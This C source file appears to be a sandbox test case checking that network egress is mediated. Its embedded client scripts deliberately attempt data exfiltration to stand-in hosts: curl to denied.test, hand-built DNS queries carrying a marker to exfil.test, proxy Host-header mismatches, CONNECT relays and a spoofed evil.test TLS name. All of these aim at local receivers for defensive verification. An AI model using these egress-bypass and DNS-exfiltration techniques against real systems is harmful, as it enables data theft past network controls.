/* HB-09: egress mediation is mandatory.
 *
 * Fixture (outside every sandbox, on the host's loopback): the allowed
 * receiver (127.0.0.1:18961, "allowed.test" for the sandbox by the
 * policy's network.resolve), two denied receivers (127.0.0.1:18962 and
 * [::1]:18962) and the exfil.test "authoritative DNS" (UDP
 * 127.0.0.1:18953), each a counting thread of the harness
 * (receivers/counter.c), proven before and after the workload by a probe
 * of the harness's own. The sandboxed clients: proxy-aware curl and a
 * proxy-unaware one (curl --noproxy) to the allowed name (the control),
 * proxy-aware curl to a name no rule allows, raw TCP to the denied
 * receivers' IPv4 and IPv6 literals, a DNS query for MARKER.exfil.test
 * sent straight to the DNS receiver's address and one through the
 * resolver (getent), a UDP datagram to :443 and one with the marker to a
 * loopback UDP receiver, a proxy-form request for the allowed name with
 * the Host of another, a CONNECT relay through the allowed http port, and
 * TLS to tls.test with, without and with another SNI (docs/scenarios.md). Evidence: the receivers'
 * counts and request heads, the admissions log read back from the
 * completion record (verified by paddock and joined by admission id).
 *
 * Arms: enforced; weakened:host-net (the host's network: the clients
 * reach the denied receivers, so it must FAIL); weakened:proxy-env-only
 * (the mediator without the local default routes: nothing denied gets
 * out, but the proxy-unaware client has no route to the allowed host
 * either, so enforcement PASSes and control must FAIL: the arm table's
 * .weakens); weakened:dns-open (the stub forwards what it would refuse,
 * here to the exfil.test receiver, PADDOCK_DNS_UPSTREAM: the marker
 * query reaches it, so it must FAIL). docker: the reference, with the
 * same kinds of clients in busybox (wget with and without the proxy, wget
 * to the literals, nslookup, nc): no bridge network may be made here, so
 * Docker runs in --network none, which refuses everything, the permitted
 * request too (control FAILs), and as docker:host-net in --network host
 * (loopback clients only), which lets everything through (enforcement
 * FAILs); reference arms are reported, not required. Docker's own mediated
 * design (an internal network and a proxy container) needs a bridge
 * network: not run. */
#include "../../lib/case.h"
#include "../../observers/observe.h"
#include "../../observers/selftest.h"
#include "../../receivers/counter.h"
#include "hb09_grade.h"

#include <arpa/inet.h>
#include <dirent.h>
#include <fcntl.h>
#include <pthread.h>
#include <stdatomic.h>
#include <netinet/in.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

#define PORT_OK	    18961
#define PORT_DENIED 18962
#define PORT_DNS    18953
#define PORT_TLS    18964 /* tls.test, a "tls" rule */
#define PORT_UDP    18966 /* a loopback UDP port no rule names */

static const struct case_arm arms[] = {
    {.name = "enforced"},
    {.name = "weakened:host-net"},
    {.name = "weakened:proxy-env-only", .weakens = DIM_CONTROL},
    {.name = "weakened:dns-open"},
    {.name = "docker"},
    {.name = "docker:host-net"},
    {.name = NULL},
};

/* $1 the marker; $2 "host" when the arm has the host's network. Every
 * client gives up quickly; what counts is what the receivers saw, never
 * what the clients say. With the host's network only loopback literals
 * are used: a name would be looked up by the host's resolver, a query
 * that leaves the machine (the network rule: a host-net client only ever
 * targets loopback), and the documentation addresses are for the
 * sandbox's own namespace only. */
#define CLIENTS                                                                                    \
	"m=\"$1\"\n"                                                                               \
	"if [ \"$2\" != host ]; then\n"                                                            \
	"curl -s -m 5 http://allowed.test:18961/control-proxy >/dev/null\n"                        \
	"curl -s -m 5 --noproxy '*' http://allowed.test:18961/control-transparent >/dev/null\n"    \
	"curl -s -m 3 http://denied.test:18962/$m >/dev/null\n"                                    \
	"getent hosts $m.exfil.test >/dev/null\n"                                                  \
	"t='timeout 5 openssl s_client -connect tls.test:18964'\n"                                 \
	"$t -proxy 127.0.0.1:3128 -servername tls.test </dev/null >/dev/null 2>&1\n"               \
	"$t -proxy 127.0.0.1:3128 -noservername </dev/null >/dev/null 2>&1\n"                      \
	"$t -proxy 127.0.0.1:3128 -servername evil.test </dev/null >/dev/null 2>&1\n"              \
	"$t -noservername </dev/null >/dev/null 2>&1\n"                                            \
	"fi\n"                                                                                     \
	"curl -s -m 3 --noproxy '*' http://127.0.0.1:18962/$m >/dev/null\n"                        \
	"curl -s -m 3 --noproxy '*' 'http://[::1]:18962/'$m >/dev/null\n"                          \
	"python3 - \"$m\" <<'PY'\n"                                                                \
	"import socket, struct, sys\n"                                                             \
	"m = sys.argv[1]\n"                                                                        \
	"q = b'\\x12\\x34\\x01\\x00\\x00\\x01\\x00\\x00\\x00\\x00\\x00\\x00'\n"                    \
	"for l in (m + '.exfil.test').split('.'):\n"                                               \
	"    q += bytes([len(l)]) + l.encode()\n"                                                  \
	"q += b'\\x00\\x00\\x10\\x00\\x01'\n"                                                      \
	"for dst in (('127.0.0.1', 18953), ('127.0.0.1', 443)):\n"                                 \
	"    try:\n"                                                                               \
	"        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendto(q, dst)\n"         \
	"    except OSError: pass\n"                                                               \
	"try:\n"                                                                                   \
	"    s = socket.create_connection(('127.0.0.1', 3128), timeout=3)\n"                       \
	"    s.sendall(('GET http://allowed.test:18961/mismatch-' + m + ' HTTP/1.1\\r\\n'\n"       \
	"               'Host: denied.test:18962\\r\\n\\r\\n').encode()); s.recv(100)\n"           \
	"except OSError: pass\n"                                                                   \
	"try:\n"                                                                                   \
	"    s = socket.create_connection(('127.0.0.1', 3128), timeout=3)\n"                       \
	"    s.sendall(b'CONNECT allowed.test:18961 HTTP/1.1\\r\\nHost: "                          \
	"allowed.test\\r\\n\\r\\n')\n"                                                             \
	"    if b' 200 ' in s.recv(200).split(b'\\r\\n')[0] + b' ':\n"                             \
	"        s.sendall(('GET /relay-' + m + ' HTTP/1.1\\r\\nHost: d\\r\\n\\r\\n').encode())\n" \
	"        s.recv(100)\n"                                                                    \
	"except OSError: pass\n"                                                                   \
	"try:\n"                                                                                   \
	"    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)\n"                               \
	"    s.sendto(('udp-' + m).encode(), ('127.0.0.1', 18966))\n"                              \
	"except OSError: pass\n"                                                                   \
	"PY\n"                                                                                     \
	"exit 0\n"

/* weakened:dns-open: the open stub's upstream is the exfil.test receiver. */
static const char *const dns_open_env[] = {"PADDOCK_DNS_UPSTREAM=127.0.0.1:18953", NULL};

/* The same clients for the busybox-only Docker image ($2 as above): wget honours
 * http_proxy (-Y off ignores it; busybox 1.35's -T crashes, so timeout(1)
 * bounds each), nc sends the mismatched proxy-form request, nslookup asks
 * the DNS receiver's address and port directly, and is the UDP client too
 * (this busybox's nc has no -u). Each reaches its receiver
 * when run on the host (checked by hand against these receivers). */
#define BUSYBOX_CLIENTS                                                                           \
	"m=\"$1\"; export http_proxy=http://127.0.0.1:3128; w='timeout 5 wget -q -O /dev/null'\n" \
	"if [ \"$2\" != host ]; then\n"                                                           \
	"$w http://allowed.test:18961/control-proxy\n"                                            \
	"$w -Y off http://allowed.test:18961/control-transparent\n"                               \
	"$w http://denied.test:18962/$m\n"                                                        \
	"fi\n"                                                                                    \
	"$w -Y off http://127.0.0.1:18962/$m\n"                                                   \
	"$w -Y off \"http://[::1]:18962/$m\"\n"                                                   \
	"timeout 5 nslookup $m.exfil.test 127.0.0.1:18953 >/dev/null 2>&1\n"                      \
	"timeout 3 nslookup udp-$m 127.0.0.1:18966 >/dev/null 2>&1\n"                             \
	"printf 'GET http://allowed.test:18961/mismatch-%s HTTP/1.1\\r\\nHost: "                  \
	"denied.test:18962\\r\\n\\r\\n' \"$m\" | timeout 5 nc 127.0.0.1 3128 >/dev/null 2>&1\n"   \
	"exit 0\n"

/* The workload's routes, read from outside while it runs: a thread of the
 * harness finds a process of the workload (its command line holds the
 * marker; paddock's own processes and the docker client, which hold it
 * too, are skipped) and
 * reads /proc/PID/net/route and ipv6_route, which show that process's
 * network namespace. Any interface but lo in them is a way off the
 * sandbox; none is what keeps every protocol in, ICMP (which no client
 * inside can send) included. */
struct route_watch {
	pthread_t thread;
	atomic_bool stop;
	const char *marker;
	bool found;
	int pid;
	size_t n_routes;
	char off[160];	  /* the interfaces other than lo, space-separated */
	char listen[160]; /* TCP ports listening there (the mediator's), space-separated */
};

/* The listening TCP ports of /proc/PID/net/tcp or tcp6 (state 0A). */
static void read_listeners(struct route_watch *w, const char *path)
{
	FILE *f = fopen(path, "re");
	char line[512];

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		char local[64], word[16];
		unsigned st;
		const char *colon;

		if (sscanf(line, "%*s %63s %*s %x", local, &st) != 2 || st != 0x0A)
			continue;
		colon = strrchr(local, ':');
		if (!colon)
			continue;
		snprintf(word, sizeof(word), "%lu ", strtoul(colon + 1, NULL, 16));
		if (!strstr(w->listen, word) &&
		    strlen(w->listen) + strlen(word) < sizeof(w->listen))
			strcat(w->listen, word);
	}
	fclose(f);
}

static void note_iface(struct route_watch *w, const char *ifc)
{
	char word[40];

	if (!*ifc || strcmp(ifc, "lo") == 0)
		return;
	snprintf(word, sizeof(word), " %s ", ifc);
	if (!strstr(w->off, word + 1) && strlen(w->off) + strlen(word) < sizeof(w->off))
		strcat(w->off, word + 1);
}

/* The last whitespace-separated word of each line of path (header skipped
 * when header): the interface, in both files' layouts (route has it
 * first). */
static void read_routes(struct route_watch *w, const char *path, bool first_word)
{
	FILE *f = fopen(path, "re");
	char line[512];
	bool head = first_word; /* /proc/net/route has a header line */

	if (!f)
		return;
	while (fgets(line, sizeof(line), f)) {
		char ifc[32] = "", *last;

		if (head) {
			head = false;
			continue;
		}
		line[strcspn(line, "\n")] = '\0';
		if (first_word) {
			if (sscanf(line, "%31s", ifc) != 1)
				continue;
		} else {
			last = strrchr(line, ' ');
			snprintf(ifc, sizeof(ifc), "%s", last ? last + 1 : line);
		}
		w->n_routes++;
		note_iface(w, ifc);
	}
	fclose(f);
}

static bool is_workload(int pid, const char *marker)
{
	char path[64], buf[4096], comm[32] = "";
	ssize_t n;
	int fd;

	snprintf(path, sizeof(path), "/proc/%d/comm", pid);
	/* Not paddock's own processes nor the docker client, which hold the
	 * marker in their arguments but run in the host's namespace. */
	if (read_file(path, comm, sizeof(comm)) < 0 || !strncmp(comm, "paddock", 7) ||
	    !strncmp(comm, "docker", 6))
		return false;
	snprintf(path, sizeof(path), "/proc/%d/cmdline", pid);
	fd = open(path, O_RDONLY | O_CLOEXEC);
	if (fd < 0)
		return false;
	n = read(fd, buf, sizeof(buf));
	close(fd);
	return n > 0 && memmem(buf, (size_t)n, marker, strlen(marker));
}

static void *watch_routes(void *arg)
{
	struct route_watch *w = arg;

	while (!atomic_load(&w->stop) && !w->found) {
		DIR *d = opendir("/proc");
		struct dirent *e;

		while (d && !w->found && (e = readdir(d))) {
			int pid = atoi(e->d_name);
			char path[64];

			if (pid <= 0 || !is_workload(pid, w->marker))
				continue;
			snprintf(path, sizeof(path), "/proc/%d/net/route", pid);
			read_routes(w, path, true);
			snprintf(path, sizeof(path), "/proc/%d/net/ipv6_route", pid);
			read_routes(w, path, false);
			snprintf(path, sizeof(path), "/proc/%d/net/tcp", pid);
			read_listeners(w, path);
			snprintf(path, sizeof(path), "/proc/%d/net/tcp6", pid);
			read_listeners(w, path);
			/* Still the workload's after the reads (not a pid reused
			 * meanwhile): then they were its namespace's. */
			w->found = is_workload(pid, w->marker);
			w->pid = pid;
			if (!w->found)
				w->n_routes = 0, w->off[0] = w->listen[0] = '\0';
		}
		if (d)
			closedir(d);
		if (!w->found)
			sleep_ms(10);
	}
	return NULL;
}

struct hb09 {
	struct counter_rx *ok, *denied4, *denied6, *dns, *tls, *udp;
	char marker[64];
	struct egress_obs o;
	struct route_watch rw;
};

/* The harness's own request or datagram to a receiver: it must count it. */
static void poke(const char *addr, int port, bool udp)
{
	struct sockaddr_storage ss = {0};
	socklen_t len;
	int fd;

	len = counter_addr(addr, port, &ss);
	fd = socket(ss.ss_family, (udp ? SOCK_DGRAM : SOCK_STREAM) | SOCK_CLOEXEC, 0);
	if (fd < 0)
		return;
	if (udp) {
		(void)sendto(fd, "X-Harness-Probe", 15, 0, (struct sockaddr *)&ss, len);
	} else if (connect(fd, (struct sockaddr *)&ss, len) == 0) {
		char b[128];

		(void)!send(fd, "GET /probe HTTP/1.1\r\nX-Harness-Probe: 1\r\n\r\n", 44,
			    MSG_NOSIGNAL);
		(void)!recv(fd, b, sizeof(b), 0);
	}
	close(fd);
}

static bool prove(struct hb09 *h, size_t want)
{
	struct {
		struct counter_rx *rx;
		const char *addr;
		int port;
		bool udp;
	} all[] = {
	    {h->ok, "127.0.0.1", PORT_OK, false},    {h->denied4, "127.0.0.1", PORT_DENIED, false},
	    {h->denied6, "::1", PORT_DENIED, false}, {h->dns, "127.0.0.1", PORT_DNS, true},
	    {h->tls, "127.0.0.1", PORT_TLS, false},  {h->udp, "127.0.0.1", PORT_UDP, true}};
	bool ok = true;

	for (size_t i = 0; i < sizeof(all) / sizeof(all[0]); i++) {
		poke(all[i].addr, all[i].port, all[i].udp);
		for (int t = 0; t < 50 && counter_matching(all[i].rx, "X-Harness-Probe") < want;
		     t++)
			sleep_ms(10);
		ok &= counter_matching(all[i].rx, "X-Harness-Probe") >= want;
	}
	return ok;
}

static int setup(struct case_run *cr, struct err *why)
{
	struct hb09 *h = cr->priv;
	int rc;

	snprintf(h->marker, sizeof(h->marker), "hb09m%d%lx", (int)getpid(), (long)random());
	rc = counter_start(&h->ok, "127.0.0.1", PORT_OK, false);
	if (rc >= 0)
		rc = counter_start(&h->denied4, "127.0.0.1", PORT_DENIED, false);
	if (rc >= 0)
		rc = counter_start(&h->denied6, "::1", PORT_DENIED, false);
	if (rc >= 0)
		rc = counter_start(&h->dns, "127.0.0.1", PORT_DNS, true);
	if (rc >= 0)
		rc = counter_start(&h->tls, "127.0.0.1", PORT_TLS, false);
	if (rc >= 0)
		rc = counter_start(&h->udp, "127.0.0.1", PORT_UDP, true);
	if (rc < 0)
		return err_sys(why, rc,
			       "a receiver could not listen (ports 18961, 18962, 18953, 18964, "
			       "18966)");
	return 0;
}

/* The admissions log the record names: read, its verification (the
 * record's), the "allowed" admissions, and the ids joined with the
 * allowed receiver's request heads. */
static void admissions(struct case_run *cr, struct hb09 *h, const char *rec)
{
	static char log[1 << 20];
	char path[512];
	int n;

	n = selftest_on("admissions-unread")
		? -ENOENT
		: admissions_read(rec, path, sizeof(path), &h->o.log_verified, log, sizeof(log));
	if (n == -ENOENT) {
		result_evidence(cr->r, "admissions", "the record names no admissions log");
		return;
	}
	if (n < 0) {
		result_evidence(cr->r, "admissions", "cannot read %s", path);
		return;
	}
	h->o.log_read = true;
	/* The http receiver's admissions: those for allowed.test (the TLS
	 * control's are tls.test's, counted by the TLS receiver). */
	h->o.admitted = admissions_count(log, "allowed", "allowed.test");
	for (size_t i = 0; counter_head(h->ok, i); i++) {
		const char *hd = counter_head(h->ok, i), *id = strstr(hd, "Paddock-Admission: ");

		if (strstr(hd, "X-Harness-Probe") || !id)
			continue;
		id += strlen("Paddock-Admission: ");
		h->o.joined += admissions_has(log, id, strcspn(id, "\r\n"));
	}
	result_evidence(cr->r, "admissions",
			"log %s (%s): %zu allowed admission(s); %zu receiver request(s) joined by "
			"id",
			path, h->o.log_verified ? "complete" : "not verified", h->o.admitted,
			h->o.joined);
}

static void run(struct case_run *cr)
{
	struct hb09 *h = cr->priv;
	struct result *r = cr->r;
	char rec[PATH_MAX + 64];
	struct argv_buf a;
	int status = -1;
	bool before;

	snprintf(rec, sizeof(rec), "%s/record.json", cr->records);
	before = prove(h, 1);
	h->rw.marker = h->marker;
	if (pthread_create(&h->rw.thread, NULL, watch_routes, &h->rw) != 0)
		h->rw.marker = NULL; /* no watcher: the routes stay unread */
	case_argv_arm(
	    cr, &a,
	    &(struct arm_start){.ws = cr->fx.dir,
				.record = rec,
				.env = strcmp(r->knob, "dns-open") == 0 ? dns_open_env : NULL});
	/* The host's network: loopback literals only (CLIENTS). */
	argv_words(
	    &a, "sh", "-c", r->kind == ARM_DOCKER ? BUSYBOX_CLIENTS : CLIENTS, "sh", h->marker,
	    strstr(r->knob, "host-net") || strcmp(r->arm, "docker:host-net") == 0 ? "host" : "own",
	    NULL);
	if (case_run_vec(cr, &a, cr->log, 120000, &status) < 0) {
		result_not_executed(r, "could not start the workload");
		return;
	}
	if (h->rw.marker) {
		atomic_store(&h->rw.stop, true);
		pthread_join(h->rw.thread, NULL);
	}

	if (h->rw.off[0] && h->rw.off[strlen(h->rw.off) - 1] == ' ')
		h->rw.off[strlen(h->rw.off) - 1] = '\0';
	if (h->rw.listen[0] && h->rw.listen[strlen(h->rw.listen) - 1] == ' ')
		h->rw.listen[strlen(h->rw.listen) - 1] = '\0';
	h->o.routes_read = h->rw.found;
	h->o.routes_off = h->rw.found && h->rw.off[0];
	if (h->rw.found)
		result_evidence(r, "routes",
				"read from outside in /proc/%d/net/{route,ipv6_route,tcp,tcp6} "
				"while the workload ran: %zu route(s), interfaces other than lo: "
				"%s; TCP ports listening: %s",
				h->rw.pid, h->rw.n_routes, h->rw.off[0] ? h->rw.off : "none",
				h->rw.listen[0] ? h->rw.listen : "none");
	else
		result_evidence(r, "routes", "no process of the workload was found to read them");
	h->o.receivers_proven = before && prove(h, 2);
	if (r->kind != ARM_DOCKER)
		case_record(cr, rec, NULL);
	/* proxy-env-only still goes through the mediator: its admissions
	 * must still join. */
	h->o.mediated = r->kind == ARM_ENFORCED || strcmp(r->knob, "proxy-env-only") == 0 ||
			strcmp(r->knob, "dns-open") == 0;
	h->o.denied = counter_count(h->denied4) + counter_count(h->denied6) -
		      counter_matching(h->denied4, "X-Harness-Probe") -
		      counter_matching(h->denied6, "X-Harness-Probe");
	h->o.dns_marker = counter_matching(h->dns, h->marker);
	h->o.allowed = counter_count(h->ok) - counter_matching(h->ok, "X-Harness-Probe");
	h->o.control_proxy = counter_matching(h->ok, "GET /control-proxy ") > 0;
	h->o.control_transparent = counter_matching(h->ok, "GET /control-transparent ") > 0;
	h->o.relayed = counter_matching(h->ok, "/relay-");
	h->o.udp_marker = counter_matching(h->udp, h->marker);
	/* A ClientHello that names tls.test carries those bytes; any other
	 * connection but the harness's probe came without the allowed SNI. */
	h->o.tls_client = r->kind != ARM_DOCKER;
	h->o.tls_control = counter_matching(h->tls, "tls.test") > 0;
	h->o.tls_leaked = counter_count(h->tls) - counter_matching(h->tls, "X-Harness-Probe") -
			  counter_matching(h->tls, "tls.test");
	result_evidence(
	    r, "receivers",
	    "allowed %zu request(s) (proxy-aware control %s, proxy-unaware control %s), "
	    "denied %zu connection(s), exfil.test DNS %zu marker query(ies), UDP %zu marker "
	    "datagram(s), TLS %s with the allowed SNI and %zu without it, %zu relayed through a "
	    "CONNECT to the http rule; probes %s",
	    h->o.allowed, h->o.control_proxy ? "arrived" : "missing",
	    h->o.control_transparent ? "arrived" : "missing", h->o.denied, h->o.dns_marker,
	    h->o.udp_marker,
	    !h->o.tls_client   ? "(no TLS client in this image)"
	    : h->o.tls_control ? "arrived"
			       : "missing",
	    h->o.tls_leaked, h->o.relayed, h->o.receivers_proven ? "counted" : "NOT counted");
	if (h->o.mediated)
		admissions(cr, h, rec);
	result_evidence(r, "exit", "workload status %d (not evidence)", status);
	grade_egress(&h->o, r->v);
}

static void teardown(struct case_run *cr)
{
	struct hb09 *h = cr->priv;

	counter_stop(h->ok);
	counter_stop(h->denied4);
	counter_stop(h->denied6);
	counter_stop(h->dns);
	counter_stop(h->tls);
	counter_stop(h->udp);
}

const struct eval_case hb09_case = {
    .id = "HB-09",
    .title = "Egress mediation is mandatory",
    .policy = "cases/network/hb09_policy.json",
    .arms = arms,
    .fixture = CASE_DIR | CASE_RECORDS,
    .priv_size = sizeof(struct hb09),
    .setup = setup,
    .run = run,
    .teardown = teardown,
};
